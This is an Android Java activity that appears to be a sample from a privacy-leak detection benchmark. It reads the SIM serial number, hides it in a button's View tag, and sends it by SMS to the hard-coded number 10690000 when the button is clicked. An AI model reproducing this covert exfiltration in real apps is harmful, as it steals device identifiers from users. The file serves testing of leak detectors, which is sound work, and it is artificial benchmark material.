package cn.privlens.suite.view_tag;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;

public class Main extends Activity implements View.OnClickListener {
    private static final int KIND = 0x7f0a0001;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button button = new Button(this);
        button.setTag(KIND, "card");
        button.setTag(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
        button.setOnClickListener(this);
        setContentView(button);
    }

    @Override
    public void onClick(View view) {
        SmsManager.getDefault().sendTextMessage("10690000", null, (String) view.getTag(), null, null);
    }
}
